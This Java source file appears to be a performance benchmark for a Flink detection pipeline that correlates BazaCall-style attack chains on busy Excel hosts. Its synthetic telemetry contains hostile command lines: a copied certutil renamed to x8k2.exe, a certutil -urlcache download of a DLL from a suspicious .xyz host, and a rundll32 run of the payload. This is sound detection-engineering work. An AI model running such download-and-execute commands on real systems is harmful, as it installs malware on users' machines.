package dev.bazahunt.job.bench;

import dev.bazahunt.correlation.CorrelationEvent;
import dev.bazahunt.correlation.CorrelationLink;
import dev.bazahunt.correlation.DownloadRow;
import dev.bazahunt.correlation.ExcelChildEvent;
import dev.bazahunt.job.pipeline.BazaCallPattern;
import dev.bazahunt.job.pipeline.BoundExcelChildren;
import dev.bazahunt.job.pipeline.HuntPipeline;
import dev.bazahunt.job.pipeline.LinkDownloadToExcel;
import dev.bazahunt.rules.RuleIds;
import dev.bazahunt.telemetry.DeviceFileEvent;
import dev.bazahunt.telemetry.DeviceProcessEvent;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.apache.flink.api.common.serialization.SerializerConfigImpl;
import org.apache.flink.api.common.typeinfo.TypeInformation;
import org.apache.flink.api.common.typeinfo.Types;
import org.apache.flink.cep.nfa.compiler.NFACompiler;
import org.apache.flink.cep.operator.CepOperator;
import org.apache.flink.streaming.api.operators.KeyedProcessOperator;
import org.apache.flink.streaming.runtime.streamrecord.StreamRecord;
import org.apache.flink.streaming.util.KeyedOneInputStreamOperatorTestHarness;

/**
 * A busy Excel host through the correlation's two operators (the per-device budget and CEP), driven
 * in Flink's operator test harnesses on the heap state backend: one device whose Excel spawns N
 * ordinary children an hour (splwow64.exe, as print-heavy hosts do) and one BazaCall chain an hour
 * (the copy of certutil, the download, the payload run), in event time, the watermark advancing every
 * simulated minute. It reports the cost per event over hours 2 to 4 (hour 1 warms up) and the largest
 * snapshot of the two operators' state (taken at the end of every hour, as a checkpoint would), with
 * the budget and without it.
 *
 * <p>Run (README, "Busy Excel hosts"): build the test classes and their class path with
 * {@code mvn -B -q -pl job -am test-compile dependency:build-classpath -Dmdep.includeScope=test
 * -Dmdep.outputFile=target/test.classpath}, then start this class with java on
 * {@code job/target/test-classes:job/target/classes:udfs/target/classes} and that class path.
 */
public final class BusyExcelHostBenchmark {
    private static final Duration WINDOW = Duration.ofMinutes(30);
    private static final String DEVICE = "b5e1f0c2a9d84b7e8f6a3c1d2e4f5a6b7c8d9e0f";
    private static final long START = 1_626_789_600_000L; // 2021-07-20T14:00:00Z
    private static final long MINUTE = 60_000L;
    private static final int HOURS = 4;

    private BusyExcelHostBenchmark() {}

    public static void main(String[] args) throws Exception {
        System.out.println("busy Excel host: one device, window 30m, 4 h of event time, 1 BazaCall chain an hour");
        System.out.println("budget      children/h  events   us/event (h2-4)  max state (KiB)  chains correlated");
        for (int perHour : new int[] {500, 1_000, 2_000, 10_000, 20_000}) {
            print("64", perHour, run(64, perHour));
        }
        // Without the budget the cost grows with the children per window: 10,000 an hour is out of reach.
        for (int perHour : new int[] {500, 1_000, 2_000}) {
            print("unbounded", perHour, run(Integer.MAX_VALUE, perHour));
        }
    }

    private static void print(String budget, int perHour, Result result) {
        System.out.printf("%-11s %,10d  %,7d  %15.1f  %15.1f  %d of %d%n", budget, perHour, result.events,
                result.nanosPerEvent / 1000.0, result.maxStateBytes / 1024.0, result.chainsCorrelated, HOURS);
    }

    record Result(long events, double nanosPerEvent, long maxStateBytes, int chainsCorrelated) {}

    static Result run(int budget, int childrenPerHour) throws Exception {
        CepOperator<CorrelationEvent, String, CorrelationLink> cepOperator = new CepOperator<>(
                TypeInformation.of(CorrelationEvent.class).createSerializer(new SerializerConfigImpl()), false,
                NFACompiler.compileFactory(BazaCallPattern.within(WINDOW), false), null, null,
                new LinkDownloadToExcel(), HuntPipeline.LATE);
        try (var bound = new KeyedOneInputStreamOperatorTestHarness<>(
                        new KeyedProcessOperator<>(new BoundExcelChildren(WINDOW, budget)),
                        (CorrelationEvent e) -> e.deviceId, Types.STRING);
                var cep = new KeyedOneInputStreamOperatorTestHarness<>(cepOperator,
                        (CorrelationEvent e) -> e.deviceId, Types.STRING)) {
            bound.open();
            cep.open();
            long events = 0;
            long timedEvents = 0;
            long timedNanos = 0;
            long maxState = 0;
            List<String> linkedDownloads = new ArrayList<>();
            long childGap = 3_600_000L / childrenPerHour;
            long next = START;
            for (int minute = 0; minute < HOURS * 60; minute++) {
                long minuteStart = START + minute * MINUTE;
                List<CorrelationEvent> batch = new ArrayList<>();
                for (; next < minuteStart + MINUTE; next += childGap) {
                    batch.add(CorrelationEvent.of(DEVICE, child(next, "splwow64.exe", "splwow64.exe 8192")));
                }
                if (minute % 60 == 20) { // the hour's BazaCall chain
                    batch.add(CorrelationEvent.of(DEVICE, child(minuteStart + 1, "cmd.exe",
                            "cmd.exe /c mkdir C:\\Users\\Public\\x8k2 && copy C:\\Windows\\System32\\certutil.exe x8k2.exe")));
                    batch.add(CorrelationEvent.of(download(minuteStart + 2, minute)));
                    batch.add(CorrelationEvent.of(DEVICE, child(minuteStart + 3, "rundll32.exe",
                            "rundll32.exe C:\\Users\\Public\\x8k2\\tmp1834.dll,GlobalOut")));
                }
                long begin = System.nanoTime();
                for (CorrelationEvent event : batch) {
                    bound.processElement(event, event.timestampMillis());
                }
                bound.processWatermark(minuteStart + MINUTE - 1);
                forward(bound, cep);
                cep.processWatermark(minuteStart + MINUTE - 1);
                long spent = System.nanoTime() - begin;
                events += batch.size();
                if (minute >= 60) {
                    timedNanos += spent;
                    timedEvents += batch.size();
                }
                for (Object output : cep.getOutput()) {
                    if (output instanceof StreamRecord<?> record && record.getValue() instanceof CorrelationLink link
                            && !linkedDownloads.contains(link.downloadKey)) {
                        linkedDownloads.add(link.downloadKey);
                    }
                }
                cep.getOutput().clear();
                if (minute % 60 == 59) {
                    maxState = Math.max(maxState, bound.snapshot(minute, minute).getStateSize()
                            + cep.snapshot(minute, minute).getStateSize());
                }
            }
            return new Result(events, (double) timedNanos / timedEvents, maxState, linkedDownloads.size());
        }
    }

    private static void forward(KeyedOneInputStreamOperatorTestHarness<String, CorrelationEvent, CorrelationEvent> from,
            KeyedOneInputStreamOperatorTestHarness<String, CorrelationEvent, CorrelationLink> to) throws Exception {
        for (Object output : from.getOutput()) {
            if (output instanceof StreamRecord<?> record) {
                @SuppressWarnings("unchecked")
                StreamRecord<CorrelationEvent> event = (StreamRecord<CorrelationEvent>) record;
                to.processElement(event.getValue(), event.getTimestamp());
            }
        }
        from.getOutput().clear();
    }

    private static long reportIds = 1;

    private static ExcelChildEvent child(long millis, String fileName, String commandLine) {
        DeviceProcessEvent event = new DeviceProcessEvent();
        event.deviceId = DEVICE;
        event.timestamp = millis * 1_000_000L;
        event.reportId = reportIds++;
        event.processId = 10_000 + event.reportId;
        event.fileName = fileName;
        event.processCommandLine = commandLine;
        event.initiatingProcessFileName = "EXCEL.EXE";
        event.initiatingProcessId = 5120L;
        return ExcelChildEvent.from(event);
    }

    private static DownloadRow download(long millis, int instance) {
        DeviceFileEvent event = new DeviceFileEvent();
        event.deviceId = DEVICE;
        event.timestamp = millis * 1_000_000L;
        event.reportId = reportIds++;
        event.fileName = "tmp1834.dll";
        event.folderPath = "C:\\Users\\Public\\x8k2\\tmp1834.dll";
        event.initiatingProcessId = 7000L + instance;
        event.initiatingProcessCreationTime = (millis - 120) * 1_000_000L;
        event.initiatingProcessFileName = "x8k2.exe";
        event.initiatingProcessCommandLine = "x8k2.exe -urlcache -split -f http://pshe0pxe339.xyz/a.php tmp1834.dll";
        return DownloadRow.from(event, RuleIds.CERTUTIL_DOWNLOAD);
    }
}
